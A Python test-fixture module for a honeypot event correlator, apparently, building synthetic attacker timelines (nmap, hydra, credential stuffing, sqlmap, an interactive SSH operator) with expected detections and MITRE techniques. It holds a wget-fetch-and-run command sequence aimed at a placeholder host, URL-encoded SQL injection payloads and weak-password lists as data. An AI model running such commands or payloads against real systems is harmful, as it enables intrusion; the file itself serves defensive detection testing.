"""Scenario corpora: synthetic but realistic attacker timelines, as stored events.

Each scenario is a list of :class:`Event` with deterministic ids and timestamps and the
facts a correct correlator and profiler must find in it (sessions, class, techniques).
"""

from __future__ import annotations

import itertools
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta

from decnet.events.model import Event

T0 = datetime(2026, 3, 2, 9, 0, 0, tzinfo=UTC)
NMAP_UA = "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"
SQLMAP_UA = "sqlmap/1.8.2#stable (https://sqlmap.org)"
PAIRS = [
    ("admin", "admin123"),
    ("root", "123456"),
    ("oracle", "oracle"),
    ("test", "test2023"),
    ("ubuntu", "ubuntu!"),
    ("pi", "raspberry"),
    ("postgres", "postgres1"),
    ("user", "Passw0rd"),
]
WORDLIST = ["123456", "password", "root", "toor", "admin", "qwerty", "letmein", "111111", "dragon", "master"]


@dataclass
class Scenario:
    """A corpus and what it must produce."""

    name: str
    events: list[Event] = field(default_factory=list)
    sessions: dict[str, int] = field(default_factory=dict)  # ip -> sessions
    classes: dict[str, str] = field(default_factory=dict)  # ip -> behaviour
    techniques: dict[str, set[str]] = field(default_factory=dict)  # ip -> at least these
    absent: dict[str, set[str]] = field(default_factory=dict)  # ip -> none of these
    tools: dict[str, set[str]] = field(default_factory=dict)  # ip -> at least these

    _seq: itertools.count[int] = field(default_factory=itertools.count)

    def add(
        self,
        at: float,
        decky: str,
        service: str,
        event_type: str,
        ip: str,
        sid: str | None = None,
        port: int = 40000,
        **fields: str,
    ) -> None:
        """Append an event ``at`` seconds after T0."""
        n = next(self._seq)
        self.events.append(
            Event(
                eid=f"{self.name}-{n:06d}",
                timestamp=T0 + timedelta(seconds=at),
                decky=decky,
                service=service,
                event_type=event_type,
                src_ip=ip,
                src_port=port,
                sid=sid,
                fields=dict(fields),
            )
        )

    def ordered(self) -> list[Event]:
        """Events in time order (the order a collector stores them)."""
        return sorted(self.events, key=lambda e: (e.timestamp, e.eid))


def nmap_sweep(ip: str = "203.0.113.10", start: float = 0.0) -> Scenario:
    """``nmap -sV`` over ten deckies: ssh, http and ftp connections, NSE user agent, no logins."""
    s = Scenario("nmap")
    t = start
    for d in range(1, 11):
        decky = f"decky-{d:02d}"
        for service, port in (("ssh", "22"), ("http", "80"), ("ftp", "21")):
            sid = f"nm{d}{service}"
            extra = {"client_version": "SSH-2.0-Nmap-SSH2-Hostkey"} if service == "ssh" else {}
            s.add(t, decky, service, "connect", ip, sid, dst_port=port, **extra)
            if service == "http":
                s.add(
                    t + 0.05, decky, service, "request", ip, sid, method="GET", path="/", user_agent=NMAP_UA
                )
                s.add(
                    t + 0.06,
                    decky,
                    service,
                    "request",
                    ip,
                    sid,
                    method="GET",
                    path="/nmaplowercheck1699",
                    user_agent=NMAP_UA,
                )
            s.add(t + 0.1, decky, service, "disconnect", ip, sid, reason="closed")
            t += 0.3
    s.sessions[ip] = 30
    s.classes[ip] = "scanner"
    s.techniques[ip] = {"T1046", "T1595"}
    s.absent[ip] = {"T1110", "T1078", "T1059"}
    s.tools[ip] = {"nmap"}
    return s


def hydra_ssh(ip: str = "203.0.113.20", start: float = 0.0) -> Scenario:
    """hydra against ssh on one decky: 20 connections, 3 passwords each, every attempt fails."""
    s = Scenario("hydra")
    version = "SSH-2.0-libssh_0.10.6"
    t = start
    words = itertools.cycle(WORDLIST * 6)
    for c in range(20):
        sid = f"hy{c:02d}"
        s.add(t, "decky-03", "ssh", "connect", ip, sid, port=50000 + c, dst_port="22", client_version=version)
        for k in range(3):
            pw = next(words)
            user = "root" if c < 15 else "admin"
            s.add(
                t + 0.2 + k * 0.3,
                "decky-03",
                "ssh",
                "auth",
                ip,
                sid,
                port=50000 + c,
                username=user,
                method="password",
                password=pw,
                result="failure",
                client_version=version,
            )
        s.add(
            t + 1.2,
            "decky-03",
            "ssh",
            "disconnect",
            ip,
            sid,
            port=50000 + c,
            reason="too many authentication failures",
            client_version=version,
        )
        t += 0.4
    s.sessions[ip] = 20
    s.classes[ip] = "brute_forcer"
    s.techniques[ip] = {"T1110", "T1110.001"}
    s.absent[ip] = {"T1078", "T1110.004", "T1059"}
    s.tools[ip] = {"hydra"}
    return s


def stuffing(ip: str = "203.0.113.30", start: float = 0.0) -> Scenario:
    """One list of user:password pairs tried on ssh, ftp and http (form login) of two deckies."""
    s = Scenario("stuff")
    t = start
    for n, (user, pw) in enumerate(PAIRS):
        s.add(
            t,
            "decky-04",
            "ssh",
            "connect",
            ip,
            f"st-ssh{n}",
            dst_port="22",
            client_version="SSH-2.0-paramiko_3.4.0",
        )
        s.add(
            t + 0.3,
            "decky-04",
            "ssh",
            "auth",
            ip,
            f"st-ssh{n}",
            username=user,
            method="password",
            password=pw,
            secret_kind="plaintext",
            secret=pw,
            result="failure",
        )
        s.add(t + 0.5, "decky-04", "ssh", "disconnect", ip, f"st-ssh{n}", reason="closed")
        s.add(t + 1.0, "decky-04", "ftp", "connect", ip, f"st-ftp{n}", dst_port="21")
        s.add(
            t + 1.2,
            "decky-04",
            "ftp",
            "auth",
            ip,
            f"st-ftp{n}",
            username=user,
            secret_kind="plaintext",
            secret=pw,
            password=pw,
            result="failure",
        )
        s.add(t + 1.3, "decky-04", "ftp", "disconnect", ip, f"st-ftp{n}", reason="closed")
        s.add(
            t + 2.0,
            "decky-05",
            "http",
            "request",
            ip,
            f"st-http{n}",
            method="POST",
            path="/wp-login.php",
            user_agent="python-requests/2.31.0",
            status="200",
        )
        s.add(
            t + 2.01,
            "decky-05",
            "http",
            "auth",
            ip,
            f"st-http{n}",
            method="form",
            username=user,
            secret_kind="plaintext",
            secret=pw,
            password=pw,
            result="failure",
            path="/wp-login.php",
        )
        t += 5.0
    s.sessions[ip] = 24
    s.classes[ip] = "credential_stuffer"
    s.techniques[ip] = {"T1110", "T1110.004"}
    s.absent[ip] = {"T1110.001", "T1110.003", "T1078"}
    s.tools[ip] = {"python-requests", "paramiko"}
    return s


INTERACTIVE_COMMANDS = [
    "uname -a",
    "id",
    "whoami",
    "cat /etc/os-release",
    "ls -la /tmp",
    "cd /tmp",
    "wget http://203.0.113.99/x.sh",
    "chmod +x x.sh",
    "./x.sh",
]


def interactive(ip: str = "198.51.100.7", start: float = 0.0) -> Scenario:
    """An operator logs in with OpenSSH, looks around at typing speed and fetches a script."""
    s = Scenario("inter")
    version = "SSH-2.0-OpenSSH_9.6p1 Ubuntu-3ubuntu13"
    sid = "op1"
    s.add(start, "decky-02", "ssh", "connect", ip, sid, dst_port="22", client_version=version)
    s.add(
        start + 4,
        "decky-02",
        "ssh",
        "auth",
        ip,
        sid,
        username="root",
        method="password",
        password="root",
        result="failure",
        client_version=version,
    )
    s.add(
        start + 9,
        "decky-02",
        "ssh",
        "auth",
        ip,
        sid,
        username="root",
        method="password",
        password="Sup3rS3cret",
        result="success",
        client_version=version,
    )
    s.add(start + 10, "decky-02", "ssh", "session", ip, sid, kind="shell", username="root")
    t = start + 14
    gaps = [3.5, 6.0, 4.2, 9.1, 5.5, 12.0, 7.3, 4.8, 6.6]
    for command, gap in zip(INTERACTIVE_COMMANDS, gaps, strict=True):
        s.add(t, "decky-02", "ssh", "command", ip, sid, command=command, cwd="/root", username="root")
        if command.startswith("wget"):
            s.add(
                t + 0.4,
                "decky-02",
                "ssh",
                "download",
                ip,
                sid,
                url="http://203.0.113.99/x.sh",
                tool="wget",
                username="root",
                command=command,
            )
        t += gap
    s.add(t + 20, "decky-02", "ssh", "disconnect", ip, sid, reason="closed", username="root")
    s.sessions[ip] = 1
    s.classes[ip] = "interactive_operator"
    s.techniques[ip] = {"T1078", "T1059", "T1082", "T1083", "T1033", "T1105"}
    s.absent[ip] = {"T1110", "T1021"}
    s.tools[ip] = {"openssh", "wget"}
    return s


def reuse(ip: str = "198.51.100.8", start: float = 0.0) -> Scenario:
    """One valid credential used on two deckies, each followed by a scripted burst of commands."""
    s = Scenario("reuse")
    version = "SSH-2.0-Go"
    t = start
    for n, decky in enumerate(("decky-06", "decky-07")):
        sid = f"re{n}"
        s.add(t, decky, "ssh", "connect", ip, sid, dst_port="22", client_version=version)
        s.add(
            t + 0.2,
            decky,
            "ssh",
            "auth",
            ip,
            sid,
            username="admin",
            method="password",
            password="Winter2024!",
            result="success",
            client_version=version,
        )
        for k, command in enumerate(
            ("uname -s -m", "nproc", "cat /proc/cpuinfo | grep name", "free -m", "w")
        ):
            s.add(
                t + 0.5 + k * 0.15,
                decky,
                "ssh",
                "command",
                ip,
                sid,
                command=command,
                exec="true",
                username="admin",
            )
        s.add(t + 1.5, decky, "ssh", "disconnect", ip, sid, reason="closed", username="admin")
        t += 60
    s.sessions[ip] = 2
    s.classes[ip] = "bot"
    s.techniques[ip] = {"T1078", "T1021", "T1059", "T1082", "T1033"}
    s.absent[ip] = {"T1110", "T1105"}
    s.tools[ip] = {"go"}
    return s


def slow_scan(ip: str = "203.0.113.60", start: float = 0.0) -> Scenario:
    """A scanner that touches one port of one decky every 20-45 minutes over six hours."""
    s = Scenario("slow")
    gaps_min = [23, 41, 29, 37, 20, 44, 31, 26, 39, 33, 22]
    targets = [
        (f"decky-{d:02d}", svc, port)
        for d, (svc, port) in zip(
            range(1, 13), itertools.cycle([("ssh", "22"), ("http", "80"), ("ftp", "21")])
        )
    ]
    t = start
    for n, (decky, service, port) in enumerate(targets):
        sid = f"sl{n}"
        s.add(t, decky, service, "connect", ip, sid, dst_port=port)
        s.add(t + 0.02, decky, service, "disconnect", ip, sid, reason="eof")
        if n < len(gaps_min):
            t += gaps_min[n] * 60
    s.sessions[ip] = 12
    s.classes[ip] = "scanner"
    s.techniques[ip] = {"T1046"}
    s.absent[ip] = {"T1110", "T1078"}
    s.tools[ip] = set()
    return s


SQLI_PATHS = [
    ("/item.php", "id=1"),
    ("/item.php", "id=1%27"),
    ("/item.php", "id=1%20AND%201%3D1"),
    ("/item.php", "id=1%20UNION%20ALL%20SELECT%20NULL%2CNULL--%20-"),
    ("/item.php", "id=1%27%20OR%20SLEEP%285%29--"),
    ("/item.php", "id=-1%20UNION%20SELECT%20table_name%20FROM%20information_schema.tables"),
]


def interleaved(a: str = "203.0.113.71", b: str = "203.0.113.72", start: float = 0.0) -> Scenario:
    """Two attackers at once on one decky: medusa on ssh and sqlmap on http, events interleaved."""
    s = Scenario("mix")
    version = "SSH-2.0-libssh2_1.11.0"
    for c in range(8):
        t = start + c * 2.0
        sid = f"md{c}"
        s.add(t, "decky-08", "ssh", "connect", a, sid, dst_port="22", client_version=version)
        for k in range(2):
            s.add(
                t + 0.3 + k * 0.4,
                "decky-08",
                "ssh",
                "auth",
                a,
                sid,
                username="root",
                method="password",
                password=WORDLIST[(c * 2 + k) % len(WORDLIST)],
                result="failure",
                client_version=version,
            )
        s.add(t + 1.2, "decky-08", "ssh", "disconnect", a, sid, reason="closed")
    for r, (path, query) in enumerate(SQLI_PATHS * 2):
        t = start + 0.5 + r * 1.3
        s.add(
            t,
            "decky-08",
            "http",
            "request",
            b,
            f"sq{r // 6}",
            method="GET",
            path=path,
            query=query,
            user_agent=SQLMAP_UA,
            status="200",
        )
    s.sessions[a] = 8
    s.sessions[b] = 2
    s.classes[a] = "brute_forcer"
    s.classes[b] = "scanner"
    s.techniques[a] = {"T1110", "T1110.001"}
    s.techniques[b] = {"T1190", "T1595"}
    s.absent[a] = {"T1190", "T1078"}
    s.absent[b] = {"T1110"}
    s.tools[a] = {"medusa"}
    s.tools[b] = {"sqlmap"}
    return s


def all_scenarios() -> list[Scenario]:
    """Every scenario, each on its own attacker addresses."""
    return [nmap_sweep(), hydra_ssh(), stuffing(), interactive(), reuse(), slow_scan(), interleaved()]


def merged() -> Scenario:
    """All scenarios as one corpus (their events interleaved in time)."""
    out = Scenario("all")
    for scenario in all_scenarios():
        out.events.extend(scenario.events)
        for attr in ("sessions", "classes", "techniques", "absent", "tools"):
            getattr(out, attr).update(getattr(scenario, attr))
    return out
